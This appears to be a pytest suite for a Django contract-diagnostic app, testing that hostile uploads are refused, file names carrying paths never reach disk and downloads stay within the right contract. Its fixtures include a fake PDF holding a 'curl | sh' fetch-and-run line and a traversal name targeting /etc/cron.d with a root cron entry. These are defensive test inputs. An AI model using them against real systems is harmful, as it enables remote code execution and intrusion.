"""Documents joined to a section: hostile files are refused with a French message naming them, nothing is stored;
a stored document is downloaded only by those who see the contract."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cpom.diagnostic import services
from cpom.diagnostic.models import Attachment
from support import page_text

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _files(root) -> list:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _upload(client, url, name, content, **fields):
    data = {
        "action": "attachment",
        "kind": "evaluation",
        "label": "",
        "file": SimpleUploadedFile(name, content),
        **fields,
    }
    return client.post(url, data)


def _raw_upload(client, url, raw_name: str, content: bytes):
    """A multipart body written by hand, so that the file name arrives exactly as a hostile client sends it."""
    boundary = "frontiere-cpom"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="action"\r\n\r\nattachment\r\n'.encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nother\r\n'.encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{raw_name}"\r\n'
        f"Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n",
        f"--{boundary}--\r\n".encode(),
    ]
    return client.generic("POST", url, b"".join(parts), content_type=f"multipart/form-data; boundary={boundary}")


HOSTILE = {
    "executable": (
        "installateur.exe",
        b"MZ\x90\x00\x03" + b"\x00" * 64,
        "installateur.exe : ce type de fichier n'est pas accepté",
    ),
    "script renamed as pdf": (
        "rapport.pdf",
        b"#!/bin/sh\ncurl http://exemple.invalid | sh\n",
        "rapport.pdf : le contenu ne correspond pas à un fichier .pdf",
    ),
    "empty file": ("vide.pdf", b"", "vide.pdf : le fichier est vide."),
    "11 MB": ("enorme.pdf", PDF + b"0" * (11 * 1024 * 1024), "enorme.pdf : le fichier dépasse 10 Mo (11,0 Mo)."),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_upload_is_refused_by_name_and_nothing_is_stored(
    client_for, association_contract, diagnostic, media_root, section_url, text_of, case
):
    name, content, message = HOSTILE[case]
    before = Attachment.objects.count()
    response = _upload(client_for("asso"), section_url(association_contract, "1.2.1"), name, content)
    assert response.status_code == 400
    assert message in text_of(response)
    assert Attachment.objects.count() == before
    assert _files(media_root) == []


def test_a_path_in_the_file_name_never_reaches_the_disk(
    client_for, association_contract, diagnostic, media_root, section_url, text_of
):
    before = Attachment.objects.count()
    response = _raw_upload(
        client_for("asso"),
        section_url(association_contract, "1.2.1"),
        "../../../etc/cron.d/tache.pdf",
        b"* * * * * root sh -c 'id'\n",
    )
    assert response.status_code == 400
    # Django keeps only the last part of the name; the content check then refuses the file, naming it.
    assert "tache.pdf : le contenu ne correspond pas à un fichier .pdf" in page_text(response)
    assert Attachment.objects.count() == before
    assert _files(media_root) == []


def test_a_name_carrying_a_path_is_refused_by_the_rules_even_with_a_real_pdf(users, diagnostic, frame, media_root):
    """Callers that bypass Django's upload parsing (imports, API) get the same refusal."""
    section = frame.sections.get(code="1.2.1")
    before = Attachment.objects.count()
    for name in ("../../rapport.pdf", "..\\rapport.pdf", "C:rapport.pdf"):
        with pytest.raises(
            services.DiagnosticRefused, match="le nom du fichier ne doit contenir ni chemin ni caractère spécial"
        ):
            services.add_attachment(diagnostic, section, None, users["asso"], name, PDF, "other", "")
    assert Attachment.objects.count() == before
    assert _files(media_root) == []


def test_a_pdf_is_stored_under_a_generated_name_and_downloaded_by_the_ars_not_by_the_ehpad(
    client_for, association_contract, diagnostic, media_root, section_url, text_of
):
    url = section_url(association_contract, "1.2.1")
    response = _upload(
        client_for("asso"), url, "évaluation externe 2024.pdf", PDF, label="Rapport d'évaluation externe 2024"
    )
    assert response.status_code == 302
    attachment = Attachment.objects.get(original_name="évaluation externe 2024.pdf", entry__diagnostic=diagnostic)
    stored = _files(media_root)
    assert len(stored) == 1 and stored[0].read_bytes() == PDF and "évaluation" not in stored[0].name
    assert attachment.organisation_label == "Association Les Chemins de Loire" and attachment.size == len(PDF)

    ars = client_for("ars")
    page = text_of(ars.get(url))
    download = reverse(
        "diagnostic:attachment", kwargs={"contract_id": association_contract.pk, "attachment_id": attachment.pk}
    )
    assert f'href="{download}"' in page and "Rapport d'évaluation externe 2024" in page
    response = ars.get(download)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''%C3%A9valuation%20externe%202024.pdf" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"

    assert client_for("ehpad").get(download).status_code == 404


def test_an_attachment_of_another_contract_is_not_served_under_this_one(
    client_for, users, association_contract, ehpad_contract, diagnostic, frame, media_root
):
    from cpom.diagnostic.models import SectionEntry
    from cpom.diagnostic.services import diagnostic_for
    from support import programmed_copy

    # The EHPAD's next contract, being prepared: the ARS is party to both, the association to neither of the EHPAD's.
    other_contract = programmed_copy(ehpad_contract, users["ars"])
    entry = SectionEntry.objects.create(
        diagnostic=diagnostic_for(other_contract), section=frame.sections.get(code="1.2.1")
    )
    other = Attachment(
        entry=entry,
        kind="other",
        label="Document de l'EHPAD",
        original_name="ehpad.pdf",
        size=len(PDF),
        sha256="0" * 64,
        organisation_label="EHPAD public Les Tilleuls",
    )
    other.file.save("essai.pdf", SimpleUploadedFile("essai.pdf", PDF), save=True)
    ars = client_for("ars")
    wrong = reverse("diagnostic:attachment", kwargs={"contract_id": association_contract.pk, "attachment_id": other.pk})
    right = reverse("diagnostic:attachment", kwargs={"contract_id": other_contract.pk, "attachment_id": other.pk})
    assert ars.get(wrong).status_code == 404
    response = ars.get(right)
    # Read to its end, as a server sends it: the ARS gets the file itself, under its own contract.
    assert response.status_code == 200 and b"".join(response.streaming_content) == PDF
    assert client_for("asso").get(right).status_code == 404


def test_uploading_needs_the_contribution_role(
    client_for, users, association_contract, diagnostic, media_root, section_url, text_of
):
    users["cd44"].membership.role = "read"
    users["cd44"].membership.save()
    client = client_for("cd44")
    url = section_url(association_contract, "1.2.1")
    assert 'data-testid="attachment-form"' not in text_of(client.get(url))
    before = Attachment.objects.count()
    assert _upload(client, url, "note.pdf", PDF).status_code == 403
    assert Attachment.objects.count() == before and _files(media_root) == []
